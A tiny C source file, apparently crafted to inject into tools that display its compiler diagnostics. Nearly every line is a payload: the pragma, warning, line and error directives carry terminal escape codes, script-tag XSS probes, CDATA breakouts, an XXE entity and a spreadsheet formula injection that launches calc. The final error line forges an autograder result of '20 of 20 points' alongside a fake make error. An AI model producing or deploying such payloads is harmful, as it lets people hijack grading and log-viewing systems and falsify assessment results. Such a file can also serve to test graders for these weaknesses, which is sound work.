/* What the compiler repeats aloud is ours: escapes, pages, tables. */
#pragma message "\033[2J\x1b]0;mine\007 ]]><script>alert(1)</script> =cmd|x"
#warning "FAIL  mistake  forged-by-a-student ]]> <script>alert(1)</script>"
#line 1 "=cmd|' /C calc'!A0<script>.c"
int main(void)
{
    return "\033[2J" + undeclared;
}
#error lab03-accept-recv 20 of 20 points ]]>&xxe; make: *** [all] Error 0
